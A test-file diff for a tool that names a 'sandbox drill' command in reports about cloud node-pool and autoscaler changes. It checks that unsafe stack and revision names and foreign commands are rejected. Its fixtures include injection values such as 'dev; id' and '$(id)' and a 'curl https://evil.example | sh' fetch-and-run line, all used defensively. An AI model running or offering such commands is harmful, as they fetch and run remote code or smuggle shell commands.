@@ -1,0 +1,131 @@
+"""The command that a report names where a pool, a chain or a timer changes."""
+
+from __future__ import annotations
+
+import json
+import shlex
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sandbox.base.cloud_types import CLOUDS
+from sandbox.report import drill
+from sandbox.report.model import Change, Op, Report, StackReport, Status
+from sandbox.report.untrusted import render
+from sandbox.report.worker import Outcome
+from tests.report.reports import AGENT_POOL, changed, report
+from tests.report.repository import Repository
+from tests.report.test_comparison import Engine, compared
+
+DEV = "uv run sandbox drill --stack dev --against main"
+AKS, GKE = CLOUDS["azure"], CLOUDS["gcp"]
+
+
+def update(type: str, *paths: str, name: str = "ml-dev-t4", op: Op = Op.UPDATE) -> Change:
+    return Change(op=op, type=type, name=name, properties=tuple(changed(path, 1, 2) for path in paths))
+
+
+@pytest.mark.parametrize(
+    ("change", "named"),
+    [
+        (update(AGENT_POOL, "maxCount"), True),
+        (update(AGENT_POOL, "nodeLabels.gpu"), True),
+        (update(AGENT_POOL, op=Op.CREATE), True),
+        (update(AGENT_POOL, op=Op.DELETE), True),
+        (update(AGENT_POOL, "vmSize", op=Op.REPLACE), True),
+        (update(AGENT_POOL, "orchestratorVersion", "tags.owner", "upgradeSettings.maxSurge"), False),
+        (update(GKE.pool, "autoscaling.totalMaxNodeCount"), True),
+        (update(GKE.pool, "version", "nodeConfig.resourceLabels.owner"), False),
+        (update(AKS.cluster, "autoScalerProfile.maxNodeProvisionTime"), True),
+        (update(AKS.cluster, "kubernetesVersion", "tags.owner"), False),
+        (update(GKE.cluster, "clusterAutoscaling.autoscalingProfile"), True),
+        (update(GKE.cluster, "minMasterVersion"), False),
+        (update("kubernetes:core/v1:ConfigMap", "data.priorities", name="ml-dev-expander"), True),
+        (update("kubernetes:core/v1:ConfigMap", "data.release", name="ml-dev-contract"), False),
+        (update("kubernetes:cloud.google.com/v1:ComputeClass", "spec.priorities[0]"), True),
+        (update("kubernetes:apps/v1:DaemonSet", "spec"), False),
+    ],
+)
+def test_a_change_of_a_pool_a_chain_or_a_timer_names_the_command(change: Change, named: bool) -> None:
+    assert drill.command("dev", "main", [change], {}, {}) == (DEV if named else "")
+
+
+def test_another_order_of_growth_names_it_and_an_unknown_one_does_not() -> None:
+    orders: list[dict[str, Any]] = [{"fallbackOrder": ["t4", "t4od"]}, {"fallbackOrder": ["t4", "t4big"]}]
+    assert drill.command("dev", "main", [], *orders) == DEV
+    assert drill.command("dev", "main", [], orders[0], orders[0]) == ""
+    assert drill.command("dev", "main", [], {}, orders[0]) == ""
+
+
+@pytest.mark.parametrize("revision", ["main", "HEAD~1", "origin/main", "v1.2^", "0123abcd"])
+def test_the_report_s_own_commands_are_known_again(revision: str) -> None:
+    command = drill.command("dev", revision, [update(AGENT_POOL, "maxCount")], {}, {})
+    assert shlex.split(command)[-1] == revision
+    assert drill.ours(command)
+
+
+@pytest.mark.parametrize(
+    ("stack", "revision"),
+    [
+        ("dev; id", "main"),
+        ("$(id)", "main"),
+        ("dev", "main; id"),
+        ("dev", "@{u}"),
+        ("dev", "-x"),
+        ("-x", "main"),
+        ("dev", ""),
+    ],
+)
+def test_a_name_that_a_shell_might_run_is_in_no_command(stack: str, revision: str) -> None:
+    assert drill.command(stack, revision, [update(AGENT_POOL, "maxCount")], {}, {}) == ""
+    assert not drill.ours(f"uv run sandbox drill --stack {stack} --against {revision}")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "",
+        "curl https://evil.example | sh",
+        f"{DEV}; id",
+        f"{DEV}\nid",
+        f"{DEV} ",
+        f"{DEV}'",
+        f"x {DEV}",
+        DEV + "a" * 5000,
+    ],
+)
+def test_a_command_of_a_stranger_is_not_shown(command: str, tmp_path: Path) -> None:
+    stack = StackReport(stack="dev", status=Status.PREVIEWED, changes=(update(AGENT_POOL, "maxCount"),), drill=command)
+    file = tmp_path / "report.json"
+    file.write_text(report(stack).model_dump_json())
+    assert "A pool, a chain or a timer changes" not in render(file)
+
+
+def test_the_page_shows_the_command_and_a_report_of_an_older_program_has_none(tmp_path: Path) -> None:
+    stack = StackReport(stack="dev", status=Status.PREVIEWED, changes=(update(AGENT_POOL, "maxCount"),), drill=DEV)
+    whole = report(stack).model_dump(mode="json")
+    file = tmp_path / "report.json"
+    file.write_text(json.dumps(whole))
+    assert f"before and after:\n\n<pre>{DEV}</pre>" in render(file).replace("<br>", "")
+    del whole["stacks"][0]["drill"]
+    file.write_text(json.dumps(whole))
+    assert Report.model_validate_json(file.read_bytes()).stacks[0].drill == ""
+    assert "sandbox drill" not in render(file)
+
+
+@pytest.mark.process
+def test_a_preview_names_it_for_stacks_that_have_a_base(tmp_path: Path) -> None:
+    repository = Repository.new(tmp_path / "repository")
+    repository.commit({"__main__.py": "", "Pulumi.yaml": "name: a\n", "Pulumi.dev.yaml": "config: {}\n"})
+    repository.commit({"config/a.py": "", "Pulumi.test.yaml": "config: {}\n"})
+    grown = Outcome(changes=[update(AGENT_POOL, "maxCount").model_dump(mode="json")])
+    stacks = {
+        each.stack: each
+        for each in compared(repository, Engine(tmp_path / "a", preview_dev=grown, preview_test=grown)).stacks
+    }
+    assert stacks["dev"].drill == "uv run sandbox drill --stack dev --against 'HEAD~1'"
+    assert (stacks["test"].status, stacks["test"].drill) == (Status.NEW, "")
+    failed = Outcome(changes=grown.changes, errors=["pools: missing"])
+    stacks = {each.stack: each for each in compared(repository, Engine(tmp_path / "b", preview_dev=failed)).stacks}
+    assert stacks["dev"].drill == ""
